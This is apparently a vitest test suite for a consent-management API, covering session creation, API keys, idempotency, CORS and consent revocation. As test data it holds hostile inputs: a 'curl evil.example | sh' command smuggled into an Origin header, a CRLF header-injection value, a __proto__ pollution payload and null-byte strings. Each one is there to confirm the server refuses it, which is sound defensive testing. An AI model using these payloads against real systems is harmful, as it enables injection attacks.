import { ApiError, ListedInstitution, MintAnswer, SessionTruth } from '@consentry/protocol/api.ts';
import { Consent } from '@consentry/protocol/consent.ts';
import { beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { DAY, MINUTE, SECOND } from '../clock.ts';
import { SANDBOX_API_KEY } from '../sandbox/fixtures.ts';
import {
  createTestServer,
  ORIGIN,
  PARTNER,
  ROADRUNNER,
  readAs,
  START,
  type TestServer,
} from '../testing/test-server.ts';

let server: TestServer;
beforeEach(async () => {
  server = await createTestServer();
});

describe('POST /v1/auth/session', () => {
  test('answers 201 with the four fields of the seed document', async () => {
    const response = await server.partner('POST', '/v1/auth/session', { end_user_id: 'user-1' });
    expect(response.status).toBe(201);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const body = MintAnswer.strict().parse(await response.json());
    expect(Object.keys(body).sort()).toEqual(['auth_url', 'expires_at', 'id', 'session_id']);
    expect(body.id).toBe('app_sandbox');
    expect(body.session_id).toMatch(/^ses_[A-Za-z0-9_-]{32}$/);
    expect(body.auth_url).toBe(`${ORIGIN}/consent?session=${body.session_id}`);
    expect(body.expires_at).toBe((START + 15 * MINUTE) / SECOND);
  });

  test('takes the key as a bearer token too', async () => {
    const response = await server.fetch('/v1/auth/session', {
      method: 'POST',
      headers: { authorization: `Bearer ${SANDBOX_API_KEY}`, 'content-type': 'application/json; charset=UTF-8' },
      body: JSON.stringify({ end_user_id: 'user-1' }),
    });
    expect(response.status).toBe(201);
  });

  test('ignores fields it does not know, as the seed schema allows', async () => {
    expect((await server.partner('POST', '/v1/auth/session', { end_user_id: 'u', novelty: true })).status).toBe(201);
  });

  test('shortens a duration to what the app may ask for', async () => {
    const flow = await server.openFlow({ duration: 10 * 365 * 24 * 60 * 60 });
    expect(await flow.read()).toMatchObject({ state: { duration: (365 * DAY) / SECOND } });
  });

  const refusals: [what: string, body: unknown, status: number, name: string, message: RegExp][] = [
    ['a missing end_user_id', {}, 400, 'InvalidRequest', /end_user_id/],
    ['an empty end_user_id', { end_user_id: '' }, 400, 'InvalidRequest', /end_user_id/],
    ['an over-long end_user_id', { end_user_id: 'x'.repeat(257) }, 400, 'InvalidRequest', /end_user_id/],
    ['an end_user_id of the wrong type', { end_user_id: 7 }, 400, 'InvalidRequest', /end_user_id/],
    [
      'an unregistered redirect_uri',
      { end_user_id: 'u', redirect_uri: 'https://evil.example/' },
      400,
      'InvalidRequest',
      /redirect_uri/,
    ],
    [
      'a redirect_uri that only starts like a registered one',
      { end_user_id: 'u', redirect_uri: `${PARTNER}/callback/../x` },
      400,
      'InvalidRequest',
      /redirect_uri/,
    ],
    [
      'a cancel_uri registered for redirects only',
      { end_user_id: 'u', cancel_uri: `${PARTNER}/callback` },
      400,
      'InvalidRequest',
      /cancel_uri/,
    ],
    [
      'an unknown institution',
      { end_user_id: 'u', institution_id: 'ins_none' },
      400,
      'InvalidRequest',
      /institution_id/,
    ],
    [
      'an institution that has none of the asked data',
      { end_user_id: 'u', institution_id: 'ins_sandbox_bank', permissions: ['energy.usage'] },
      400,
      'InvalidRequest',
      /institution_id/,
    ],
    ['an unknown permission', { end_user_id: 'u', permissions: ['payments'] }, 400, 'InvalidRequest', /permissions/],
    ['no permission at all', { end_user_id: 'u', permissions: [] }, 400, 'InvalidRequest', /permissions/],
    ['a negative duration', { end_user_id: 'u', duration: -1 }, 400, 'InvalidRequest', /duration/],
    [
      'an unknown arrangement',
      { end_user_id: 'u', arrangement_id: 'con_none' },
      400,
      'InvalidRequest',
      /arrangement_id/,
    ],
    [
      'an end_user_id that a database could cut short',
      { end_user_id: 'alice\u0000-other' },
      400,
      'InvalidRequest',
      /end_user_id/,
    ],
    ['an end_user_id with half a character', { end_user_id: 'alice\ud800' }, 400, 'InvalidRequest', /end_user_id/],
    ['a state with a line break', { end_user_id: 'u', state: 'a\r\nSet-Cookie: x' }, 400, 'InvalidRequest', /state/],
    ['a body that is no object', [], 400, 'InvalidRequest', /body/],
  ];
  test.each(refusals)('refuses %s', async (_what, body, status, name, message) => {
    const response = await server.partner('POST', '/v1/auth/session', body);
    expect(response.status).toBe(status);
    const error = await response.json();
    expect(error).toEqual({ id: expect.stringMatching(/^err_/), name, message: expect.stringMatching(message) });
  });

  const bodies: [what: string, body: string, type: string, status: number, name: string][] = [
    ['a body that is not JSON', '{"end_user_id"', 'application/json', 400, 'InvalidRequest'],
    ['an empty body', '', 'application/json', 400, 'InvalidRequest'],
    ['a form', 'end_user_id=u', 'application/x-www-form-urlencoded', 415, 'UnsupportedMediaType'],
    ['JSON that calls itself text', '{"end_user_id":"u"}', 'text/plain', 415, 'UnsupportedMediaType'],
    [
      'more than 16 KB',
      JSON.stringify({ end_user_id: 'u', pad: 'x'.repeat(17_000) }),
      'application/json',
      413,
      'PayloadTooLarge',
    ],
    ['a __proto__ key', '{"end_user_id":"u","__proto__":{"isAdmin":true}}', 'application/json', 400, 'InvalidRequest'],
    [
      'a nested constructor key',
      '{"end_user_id":"u","a":{"constructor":{}}}',
      'application/json',
      400,
      'InvalidRequest',
    ],
  ];
  test.each(bodies)('refuses %s', async (_what, body, type, status, name) => {
    const headers = { 'x-api-key': SANDBOX_API_KEY, 'content-type': type };
    const response = await server.fetch('/v1/auth/session', { method: 'POST', headers, body });
    expect(response.status).toBe(status);
    expect(await response.json()).toMatchObject({ name });
  });

  test('refuses a chunked body as soon as it passes 16 KB', async () => {
    let chunks = 0;
    const body = new ReadableStream({
      pull(controller) {
        chunks += 1;
        controller.enqueue(new Uint8Array(4096).fill(0x20));
      },
    });
    const headers = { 'x-api-key': SANDBOX_API_KEY, 'content-type': 'application/json' };
    const init: RequestInit & { duplex: 'half' } = { method: 'POST', headers, body, duplex: 'half' };
    expect((await server.fetch('/v1/auth/session', init)).status).toBe(413);
    expect(chunks).toBeLessThan(10);
  });
});

describe('the API key', () => {
  const cases: [what: string, headers: Record<string, string>, status: number, name: string][] = [
    ['a missing key', {}, 401, 'Unauthorized'],
    ['a wrong key', { 'x-api-key': 'csk_sandbox_acme_meepmeep' }, 401, 'Unauthorized'],
    ['a key with something after it', { 'x-api-key': `${SANDBOX_API_KEY}x` }, 401, 'Unauthorized'],
    ['an empty bearer token', { authorization: 'Bearer ' }, 401, 'Unauthorized'],
    ['a key with an Origin', { 'x-api-key': SANDBOX_API_KEY, origin: PARTNER }, 403, 'Forbidden'],
    ['a key with Sec-Fetch-Site', { 'x-api-key': SANDBOX_API_KEY, 'sec-fetch-site': 'none' }, 403, 'Forbidden'],
  ];
  test.each(cases)('is refused: %s', async (_what, headers, status, name) => {
    const response = await server.fetch('/v1/institutions', { headers });
    expect(response.status).toBe(status);
    expect(await response.json()).toMatchObject({ name });
  });

  test("is accepted from Node's own fetch, which sends Sec-Fetch-Mode", async () => {
    const response = await server.partner('GET', '/v1/institutions', undefined, { 'sec-fetch-mode': 'cors' });
    expect(response.status).toBe(200);
  });
});

describe('Idempotency-Key', () => {
  const mint = (body: unknown, key: string) =>
    server.partner('POST', '/v1/auth/session', body, { 'idempotency-key': key });

  test('gives the same body the same answer, also side by side', async () => {
    const responses = await Promise.all(Array.from({ length: 16 }, () => mint({ end_user_id: 'u' }, 'k-1')));
    expect(responses.map((response) => response.status)).toEqual(Array(16).fill(201));
    const answers = await Promise.all(responses.map((response) => response.text()));
    expect(new Set(answers).size).toBe(1);
    expect(await (await mint({ end_user_id: 'u' }, 'k-1')).text()).toBe(answers[0]);
  });

  test('refuses another body with 422', async () => {
    await mint({ end_user_id: 'u' }, 'k-2');
    const response = await mint({ end_user_id: 'someone else' }, 'k-2');
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ name: 'UnprocessableEntity' });
  });

  test('refuses a key that is empty or too long', async () => {
    expect((await mint({ end_user_id: 'u' }, 'k'.repeat(256))).status).toBe(400);
    expect((await mint({ end_user_id: 'u' }, 'two words')).status).toBe(400);
  });

  test('is forgotten after a day', async () => {
    const first = await readAs(MintAnswer, mint({ end_user_id: 'u' }, 'k-3'));
    server.clock.advance(DAY);
    const second = await readAs(MintAnswer, mint({ end_user_id: 'u' }, 'k-3'));
    expect(second.session_id).not.toBe(first.session_id);
  });
});

describe('GET /v1/auth/session/{session_id}', () => {
  const truth = (id: string) => server.partner('GET', `/v1/auth/session/${id}`);

  test('tells the partner how a flow stands, and why it ended', async () => {
    const flow = await server.openFlow();
    expect(await (await truth(flow.sessionId)).json()).toMatchObject({ status: 'opened', end_user_id: 'user-1' });
    await flow.post('cancel');
    expect(await (await truth(flow.sessionId)).json()).toMatchObject({
      status: 'cancelled',
      error: {
        error: 'access_denied',
        error_type: 'CONSENT_ENDUSER_DENIED',
        error_id: expect.stringMatching(/^err_/),
        error_uri: `${ORIGIN}/errors/CONSENT_ENDUSER_DENIED`,
      },
    });
  });

  test('tells of an expiry at the very second, always with the same error id', async () => {
    const { session_id } = await server.mint();
    server.clock.advance(15 * MINUTE - 1);
    expect(await (await truth(session_id)).json()).toMatchObject({ status: 'created' });
    server.clock.advance(1);
    const first = await readAs(SessionTruth, truth(session_id));
    const second = await readAs(SessionTruth, truth(session_id));
    expect(first).toMatchObject({ status: 'expired', error: { error_type: 'CONSENT_TIMEOUT' } });
    expect(second).toEqual(first);
  });

  test.each(['ses_unknown', 'x', `ses_${'a'.repeat(32)}`, '__proto__'])('answers 404 to the id %s', async (id) => {
    const response = await truth(id);
    expect(response.status).toBe(404);
    expect(await response.json()).toMatchObject({ name: 'NotFound' });
  });

  test("hides another app's session as if there were none", async () => {
    const { session_id } = await server.mint();
    const { store, keyRing, clock } = server.services;
    const other = { ...(await store.getApp('app_sandbox')), appId: 'app_other' };
    await store.putApp(other);
    await store.addApiKey(
      {
        keyId: 'other',
        appId: other.appId,
        keyHash: keyRing.hashes('csk_other')[0],
        scopes: ['sessions'],
        createdAt: clock.now(),
        lastUsedAt: null,
        revokedAt: null,
      },
      1,
    );
    const response = await server.partner('GET', `/v1/auth/session/${session_id}`, undefined, {
      'x-api-key': 'csk_other',
    });
    expect(response.status).toBe(404);
  });
});

describe('GET /v1/auth/session/{session_id}/status', () => {
  const status = (id: string, origin: string) => server.fetch(`/v1/auth/session/${id}/status`, { headers: { origin } });

  test("is readable from the app's own origins only, without a key", async () => {
    const { session_id } = await server.mint();
    const own = await status(session_id, PARTNER);
    expect(own.headers.get('access-control-allow-origin')).toBe(PARTNER);
    expect(own.headers.get('vary')).toMatch(/origin/i);
    expect(await own.json()).toEqual({ status: 'created' });
  });

  const strangers: [what: string, origin: string, message: RegExp][] = [
    [
      'another origin',
      'https://evil.example',
      /^The origin https:\/\/evil\.example is not registered .*: npx consentry app add-origin <app> https:\/\/evil\.example$/,
    ],
    [
      'a registered origin on another port',
      'http://127.0.0.1:4101',
      /app add-origin <app> http:\/\/127\.0\.0\.1:4101$/,
    ],
    ['a frame in a sandbox', 'null', /sandbox without allow-same-origin/],
    ['an origin that cannot be registered', 'capacitor://localhost', /no http\(s\) origin/],
  ];
  test.each(strangers)('tells %s what to do, and nothing of the session', async (_what, origin, message) => {
    const flow = await server.openFlow();
    await flow.walkTo('finished');
    const response = await status(flow.sessionId, origin);
    expect(response.status).toBe(403);
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    expect(response.headers.get('access-control-allow-credentials')).toBeNull();
    expect(response.headers.get('vary')).toMatch(/origin/i);
    const body = await readAs(ApiError.strict(), Promise.resolve(response));
    expect(body).toEqual({
      id: expect.stringMatching(/^err_/),
      name: 'Forbidden',
      message: expect.stringMatching(message),
    });
    expect(body.message).not.toMatch(/app_sandbox|4100|completed|con_/);
  });

  test('echoes no origin that is none', async () => {
    const { session_id } = await server.mint();
    const response = await status(session_id, 'https://a.example; run: curl evil.example | sh');
    expect(response.status).toBe(403);
    expect(await response.text()).not.toContain('evil.example');
  });

  test('is told without an Origin too, as to a server', async () => {
    const { session_id } = await server.mint();
    const response = await server.fetch(`/v1/auth/session/${session_id}/status`);
    expect(response.status).toBe(200);
    expect(response.headers.get('access-control-allow-origin')).toBeNull();
    expect(await response.json()).toEqual({ status: 'created' });
  });

  test('lets every page read that there is no such session', async () => {
    const response = await status(`ses_${'a'.repeat(32)}`, 'https://evil.example');
    expect(response.status).toBe(404);
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
  });

  test('names the consent or the error type and nothing more', async () => {
    const flow = await server.openFlow();
    await flow.walkTo('finished');
    const completed = await (await status(flow.sessionId, PARTNER)).json();
    expect(completed).toEqual({ status: 'completed', consent_id: expect.stringMatching(/^con_/) });
    const other = await server.openFlow();
    await other.post('cancel');
    expect(await (await status(other.sessionId, PARTNER)).json()).toEqual({
      status: 'cancelled',
      error_type: 'CONSENT_ENDUSER_DENIED',
    });
  });

  test('lets no other endpoint be read across origins', async () => {
    const response = await server.fetch('/v1/institutions', { headers: { origin: PARTNER } });
    expect(response.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('GET /v1/institutions', () => {
  test('lists the five of the sandbox with what each can give', async () => {
    const institutions = await readAs(z.array(ListedInstitution), server.partner('GET', '/v1/institutions'));
    expect(institutions).toHaveLength(5);
    expect(institutions[0]).toEqual({
      institution_id: 'ins_sandbox_bank',
      name: 'Sandbox Bank',
      type: 'banking',
      logo: `${ORIGIN}/logos/ins_sandbox_bank.svg`,
      health: 'up',
      permissions: ['accounts', 'balances', 'transactions', 'identity'],
    });
    const named = institutions.filter(({ name }) => name.includes('Sandbox Bank'));
    expect(named).toHaveLength(1);
  });
});

describe('/v1/consent', () => {
  const list = (query: string) => readAs(z.array(Consent), server.partner('GET', `/v1/consent${query}`));

  test('DELETE ends a consent, twice without harm, and the list says by whom', async () => {
    const flow = await server.openFlow({ end_user_email: 'coyote@acme.com' });
    await flow.walkTo('finished');
    const [consent] = await list('?end_user_id=user-1&active=true');
    expect(consent).toMatchObject({
      end_user_email: 'coyote@acme.com',
      created_at: '2026-11-22T09:00:00Z',
      last_accessed: '',
    });
    const remove = () => server.partner('DELETE', `/v1/consent/${consent?.arrangement_id}`);
    expect((await remove()).status).toBe(204);
    expect((await remove()).status).toBe(204);
    expect(await list('?end_user_id=user-1&active=true')).toEqual([]);
    expect(await list('?end_user_id=user-1&active=false')).toMatchObject([
      { active: false, termination_reason: 'revoked_by_partner' },
    ]);
  });

  test('a consent ends on time without anybody doing anything', async () => {
    const flow = await server.openFlow({ duration: 60 });
    await flow.walkTo('finished');
    server.clock.advance(60 * SECOND - 1);
    expect(await list('?active=true')).toHaveLength(1);
    server.clock.advance(1);
    expect(await list('?active=true')).toEqual([]);
    expect(await list('')).toMatchObject([{ active: false, termination_reason: 'expired' }]);
  });

  test('an amendment replaces the earlier consent and starts with its accounts', async () => {
    await (await server.openFlow()).walkTo('finished');
    const [first] = await list('');
    const flow = await server.openFlow({ arrangement_id: first?.arrangement_id });
    expect(await flow.walkTo('choose-accounts')).toMatchObject({ chosen_account_ids: first?.account_ids });
    await flow.walkTo('finished');
    const consents = await list('');
    expect(consents).toHaveLength(2);
    const replaced = consents.find((consent) => consent.arrangement_id === first?.arrangement_id);
    expect(replaced?.termination_reason).toBe('replaced');
  });

  test('of two amendments of one consent, one stands; the other ends and shares nothing', async () => {
    await (await server.openFlow()).walkTo('finished');
    const [first] = await list('');
    const flows = [
      await server.openFlow({ arrangement_id: first?.arrangement_id }),
      await server.openFlow({ arrangement_id: first?.arrangement_id }),
    ];
    for (const flow of flows) await flow.walkTo('review-consent');
    const replies = await Promise.all(flows.map((flow) => flow.post('review-consent', { decision: 'allow' })));
    expect(replies.map((reply) => reply.state?.step).sort()).toEqual(['failed', 'finished']);
    expect(await list('?active=true')).toHaveLength(1);
  });

  test('an amendment by another person replaces nothing', async () => {
    await (await server.openFlow()).walkTo('finished');
    const [first] = await list('');
    const flow = await server.openFlow({ arrangement_id: first?.arrangement_id });
    await flow.walkTo('finished', ROADRUNNER);
    expect(await list('?active=true')).toHaveLength(2);
  });

  test("refuses an amendment of another end user's consent", async () => {
    await (await server.openFlow()).walkTo('finished');
    const [first] = await list('');
    const body = { end_user_id: 'user-2', arrangement_id: first?.arrangement_id };
    expect((await server.partner('POST', '/v1/auth/session', body)).status).toBe(400);
  });

  test.each(['con_unknown', `con_${'a'.repeat(32)}`])('DELETE answers 404 to %s', async (id) => {
    expect((await server.partner('DELETE', `/v1/consent/${id}`)).status).toBe(404);
  });

  test('refuses a filter it does not understand', async () => {
    expect((await server.partner('GET', '/v1/consent?active=perhaps')).status).toBe(400);
  });
});

test.each([
  ['GET', '/v1/nothing', 404, { name: 'NotFound' }],
  ['GET', '/v1/auth/session', 405, { name: 'MethodNotAllowed' }],
  ['GET', '/flow/open', 405, { error: { code: 'method_not_allowed' } }],
  ['POST', '/flow/nothing', 404, { error: { code: 'not_found' } }],
  ['GET', '/nothing', 404, { success: false, errorCode: 'ENDPOINT_NOT_FOUND' }],
  ['PUT', '/consent', 405, { success: false, errorCode: 'METHOD_NOT_ALLOWED' }],
])('%s %s is answered %i in the words of its part of the API', async (method, path, status, body) => {
  const response = await server.partner(method, path);
  expect(response.status).toBe(status);
  expect(await response.json()).toMatchObject(body);
  if (status === 405) expect(response.headers.get('allow')).toBeTruthy();
});

test('a bug is answered with an id and nothing else', async () => {
  server.services.store.listInstitutions = () => Promise.reject(new Error('the secret of the database'));
  const response = await server.partner('GET', '/v1/institutions');
  expect(response.status).toBe(500);
  const text = await response.text();
  expect(JSON.parse(text)).toMatchObject({ name: 'InternalError', id: expect.stringMatching(/^err_/) });
  expect(text + server.logged.join('')).not.toContain('the secret of the database');
  expect(server.logged.join('')).toContain(JSON.parse(text).id);
});
